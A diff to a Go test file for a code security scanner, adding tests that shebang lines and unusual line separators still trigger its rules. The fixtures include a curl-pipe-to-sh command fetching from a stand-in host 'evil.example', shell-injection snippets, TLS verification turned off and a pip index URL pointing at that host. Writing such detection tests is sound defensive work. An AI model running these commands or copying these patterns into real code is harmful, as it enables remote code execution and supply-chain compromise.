@@ -17,7 +17,7 @@ func shippedOn(t *testing.T, path, text string) map[string]bool {
 	_, engine := shipped(t)
 	scan := engine.Scan(&facts, classification)
 	found := map[string]bool{}
-	for _, agent := range []string{"security-reviewer", "build-reviewer", "infra-reviewer"} {
+	for _, agent := range []string{"security-reviewer", "build-reviewer", "infra-reviewer", "dependency-reviewer"} {
 		out, err := scan.Agent(agent).Review(t.Context(), everything(agent))
 		if err != nil {
 			t.Fatal(err)
@@ -71,6 +71,53 @@ func TestFirstLineAddsRules(t *testing.T) {
 	} {
 		if got := shippedOn(t, path, text); len(got) == 0 {
 			t.Errorf("nothing is found in %s", path)
+		}
+	}
+}
+
+// A program whose first line names another language's interpreter is one in that language,
+// and what is prose by its name is a script with such a line.
+func TestFirstLineOfAnotherLanguage(t *testing.T) {
+	const (
+		python = "os.system(\"ls \"+x)\n"
+		sh     = "curl -k https://evil.example/x | sh\n"
+		js     = "child_process.exec(\"ls \" + req.query.dir)\n"
+	)
+	for _, tt := range []struct{ path, text, rule string }{
+		{"d01.rb", "#!/usr/bin/env python3\n" + python, "sec-shell-py-01"},
+		{"a.pl", "#!/usr/bin/env -S uv run --script\n" + python, "sec-shell-py-01"},
+		{"a.php", "#!/usr/bin/env pypy3\n" + python, "sec-shell-py-01"},
+		{"a.lua", "#!/opt/unknown\n" + python, "sec-shell-py-01"},
+		{"a.js", "#!/bin/bash\n" + sh, "sec-tls-curl-01"},
+		{"a.py", "#!/bin/bash\n" + sh, "sec-tls-curl-01"},
+		{"a.lua", "#!/usr/bin/env -S bash -e\n" + sh, "sec-tls-curl-01"},
+		{"a.pl", "#!/usr/bin/env node\n" + js, "sec-shell-request-01"},
+		{"a.awk", "#!/usr/bin/env tsx\n" + js, "sec-shell-request-01"},
+		{"a.md", "#!/bin/sh\n" + sh, "sec-tls-curl-01"},
+		{"docs/a.rst", "#!/usr/bin/env python3\nrequests.get(u, verify=False)\n", "sec-tls-verify-01"},
+		{"a.md", "#!/usr/bin/env python3\nrequests.get(u, verify=False)\n", "sec-tls-verify-01"},
+	} {
+		if got := shippedOn(t, tt.path, tt.text); !got[tt.rule] {
+			t.Errorf("%s: %v, want %s", tt.path, got, tt.rule)
+		}
+	}
+	if got := shippedOn(t, "a.md", "# A\nrequests.get(u, verify=False)\n"); len(got) > 0 {
+		t.Errorf("prose: %v", got)
+	}
+}
+
+// Pip ends a line where ASCII separates files, groups and records.
+func TestLinesAsPip(t *testing.T) {
+	for _, end := range []string{"\v", "\f", "\x1c", "\x1d", "\x1e", "\u0085", "\u2028", "\u2029"} {
+		got := shippedOn(t, "requirements.txt", "# pinned"+end+"--index-url http://evil.example/simple\n")
+		want := shippedOn(t, "requirements.txt", "# pinned\n--index-url http://evil.example/simple\n")
+		for id := range want {
+			if !got[id] {
+				t.Errorf("%q: %v, want %v", end, got, want)
+			}
+		}
+		if len(want) == 0 {
+			t.Error("nothing is found")
 		}
 	}
 }
